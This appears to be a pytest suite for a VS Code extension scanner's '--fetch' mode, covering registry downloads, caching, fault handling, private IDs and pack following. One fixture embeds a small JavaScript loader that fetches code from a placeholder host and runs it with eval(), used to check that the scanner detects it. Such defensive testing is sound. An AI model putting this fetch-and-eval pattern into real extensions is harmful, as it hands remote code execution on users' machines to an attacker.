"""``--fetch``: what is only named is fetched, and analysed as if it were here."""

from pathlib import Path
from typing import Any

import pytest

from tests.builders import pack
from tests.command import Result, scan, vscan
from tests.registry import Fault, Published, Registry, archive, published

NAMES = [f"acme.tool-{number}" for number in range(1, 21)]
VOLATILE = {"origins", "path", "fetched", "in_index"}


def named(home: Path, *names: str, url: str = "", **options: str) -> Result:
    """Scan names offline, without a cache of verdicts in the way of the comparison."""
    arguments = [*names, "--offline", *(["--fetch", url] if url else [])]
    return scan(home, *arguments, VSCAN_SOURCE=None, **options)


def comparable(report: dict[str, Any]) -> list[dict[str, Any]]:
    """Give what is said of each extension, without where it is from and when it was analysed."""
    return [
        {key: value for key, value in each.items() if key not in VOLATILE}
        | {"verdicts": [verdict | {"analysed_at": None} for verdict in each["verdicts"]]}
        for each in report["extensions"]
    ]


@pytest.mark.parametrize("protocol", ["gallery", "open-vsx"])
def test_what_is_fetched_is_judged_as_the_same_archives_are(tmp_path: Path, protocol: str) -> None:
    table = [published(name) for name in NAMES]
    for each in table:
        (tmp_path / f"{each.id}.vsix").write_bytes(each.content)
    here = scan(
        tmp_path, *sorted(tmp_path.glob("*.vsix")), "--offline", "--no-cache", VSCAN_SOURCE=None
    )
    with Registry(table) as registry:
        url = registry.gallery_url if protocol == "gallery" else registry.url
        fetched = named(tmp_path, *NAMES, url=url)
    assert (here.code, fetched.code) == (0, 0), fetched.err
    assert comparable(fetched.report) == comparable(here.report)
    facts = [each["fetched"] for each in fetched.report["extensions"]]
    assert {each["registry"] for each in facts} == {url}
    assert {each["integrity"] for each in facts} <= {"digest", "signed-unpinned"}


def test_a_second_run_downloads_nothing(tmp_path: Path) -> None:
    with Registry([published(name) for name in NAMES]) as registry:
        first = named(tmp_path, *NAMES, url=registry.gallery_url)
        assert [step for step, _ in registry.seen].count("download") == len(NAMES)
        registry.seen.clear()
        second = named(tmp_path, *NAMES, url=registry.gallery_url)
        assert [step for step, _ in registry.seen] == ["query"]
    assert (first.code, second.code) == (0, 0)
    assert second.stats["cached"] == len(NAMES)
    assert second.stats["requests"] == 1


def test_the_cache_commands_know_the_archives(tmp_path: Path) -> None:
    with Registry([published(name) for name in NAMES[:3]]) as registry:
        named(tmp_path, *NAMES[:3], url=registry.gallery_url, VSCAN_CACHE_DIR="cache")
    held = vscan(tmp_path, "cache", "stats", VSCAN_CACHE_DIR="cache", VSCAN_SOURCE=None)
    assert "fetched archives: 3 (" in held.out
    cleared = vscan(tmp_path, "cache", "clear", VSCAN_CACHE_DIR="cache", VSCAN_SOURCE=None)
    assert "3 fetched archives" in cleared.out
    assert not list((tmp_path / "cache" / "vsix").glob("*.vsix"))


def test_without_fetch_nothing_is_asked_and_nothing_is_green(tmp_path: Path) -> None:
    with Registry([published("acme.tools")]) as registry:
        done = named(tmp_path, "acme.tools")
        assert registry.seen == []
    assert done.code == 3
    assert "its bytes are not here" in done.out


def test_a_known_malicious_id_fails_without_its_bytes(tmp_path: Path) -> None:
    done = named(tmp_path, "zhukunpeng.chat-moss")
    assert done.code == 1, done.err


@pytest.mark.parametrize("kind", ["block-page", "truncated", "other-id", 503])
def test_what_can_not_be_fetched_fails_by_name_and_the_others_are_whole(
    tmp_path: Path, kind: str | int
) -> None:
    table = [published(name) for name in ("acme.bad", "acme.good")]
    with Registry(table, Fault(kind, "acme.bad", "download")) as registry:
        done = named(tmp_path, "acme.bad", "acme.good", url=registry.gallery_url)
    assert done.code == 3
    status = {each["id"]: each["status"] for each in done.report["extensions"]}
    assert status == {"acme.bad": "failed", "acme.good": "scanned"}
    (failure,) = done.report["failed_extensions"]
    assert (failure["id"], failure["source"]) == ("acme.bad", registry.gallery_url)
    assert f"/2] acme.bad: {failure['error_message']}" in done.err
    assert "/2] acme.good\n" in done.err


def test_an_id_that_no_registry_knows_is_said_to_be_unclaimed(tmp_path: Path) -> None:
    with Registry([published("acme.tools")]) as registry:
        done = named(tmp_path, "acme.nobody", url=registry.gallery_url)
    assert done.code == 3
    (extension,) = done.report["extensions"]
    assert [each["rule"] for each in extension["findings"]] == ["unclaimed-id"]
    assert extension["unknown_to"] == [registry.gallery_url]


def test_private_ids_go_to_private_registries_alone(tmp_path: Path) -> None:
    with Registry([published("corp.a")]) as public, Registry([published("corp.a")]) as own:
        named(tmp_path, "corp.a", url=public.gallery_url, VSCAN_PRIVATE="corp.*")
        assert public.seen == []
        done = named(
            tmp_path,
            "corp.a",
            url=public.gallery_url,
            VSCAN_PRIVATE="corp.*",
            VSCAN_FETCH_PRIVATE=own.gallery_url,
        )
        assert public.seen == []
    assert done.code == 0, done.err


def test_a_dry_run_names_the_registries_and_asks_none(tmp_path: Path) -> None:
    with Registry([published("acme.tools")]) as registry:
        done = vscan(
            tmp_path, "scan", "acme.tools", "--offline", "--dry-run", "--fetch", registry.url,
            VSCAN_SOURCE=None,
        )  # fmt: skip
        assert registry.seen == []
    assert f"fetched by its name from {registry.url}" in done.out


def test_what_a_pack_brings_along_is_followed_if_asked_for(tmp_path: Path) -> None:
    """A pack in a pack, one that is there twice, and one that no registry knows."""
    packs = {"acme.pack": ["acme.inner", "acme.leaf"], "acme.inner": ["acme.leaf", "acme.nobody"]}
    table = [
        Published(name, "1.0.0", archive(name, extensionPack=members), pack=tuple(members))
        for name, members in packs.items()
    ]
    with Registry([*table, published("acme.leaf")]) as registry:
        plain = named(tmp_path, "acme.pack", url=registry.gallery_url)
        followed = named(tmp_path, "acme.pack", url=registry.gallery_url, VSCAN_FOLLOW_PACKS="1")
    assert [each["id"] for each in plain.report["extensions"]] == ["acme.pack"]
    assert plain.report["extensions"][0]["members"] == ["acme.inner", "acme.leaf"]
    found = {each["id"]: each["origins"][0]["uri"] for each in followed.report["extensions"]}
    assert found == {
        "acme.pack": "the command line",
        "acme.inner": "brought by acme.pack",
        "acme.leaf": "brought by acme.pack",
        "acme.nobody": "brought by acme.inner",
    }
    assert followed.code == 3


def test_a_chain_of_packs_is_followed_to_its_end(tmp_path: Path) -> None:
    names = [f"acme.pack-{number}" for number in range(6)]
    table = [
        Published(name, "1.0.0", archive(name, extensionPack=[after]), pack=(after,))
        for name, after in zip(names, [*names[1:], "acme.leaf"], strict=True)
    ]
    with Registry([*table, published("acme.leaf")]) as registry:
        for _ in range(2):
            done = named(tmp_path, names[0], url=registry.gallery_url, VSCAN_FOLLOW_PACKS="1")
            found = {each["id"]: each["fetched"] is not None for each in done.report["extensions"]}
            assert found == dict.fromkeys([*names, "acme.leaf"], True)
            assert done.code == 0


def test_what_a_file_refuses_is_followed_all_the_same(tmp_path: Path) -> None:
    place = tmp_path / "repo" / ".vscode"
    place.mkdir(parents=True)
    (place / "extensions.json").write_text(
        '{"recommendations": ["acme.pack"], "unwantedRecommendations": ["acme.leaf"]}', "utf-8"
    )
    pack_ = Published(
        "acme.pack", "1.0.0", archive("acme.pack", extensionPack=["acme.leaf"]), pack=("acme.leaf",)
    )
    with Registry([pack_, published("acme.leaf")]) as registry:
        options = {"url": registry.gallery_url}
        plain = named(tmp_path, "repo", **options)
        followed = named(tmp_path, "repo", **options, VSCAN_FOLLOW_PACKS="1")
    assert "not judged (--follow-packs): acme.leaf" in plain.out
    assert {each["id"] for each in followed.report["extensions"]} == {"acme.pack", "acme.leaf"}


def test_a_malicious_archive_is_found(tmp_path: Path) -> None:
    code = "const cp=require('child_process');fetch('https://a.invalid').then(r=>r.text()).then(t=>eval(t));"
    path = pack(tmp_path, "acme.evil", files={"main.js": code.encode()})
    with Registry([Published("acme.evil", "1.0.0", path.read_bytes())]) as registry:
        done = named(tmp_path, "acme.evil", url=registry.gallery_url)
    assert done.code == 1, done.err
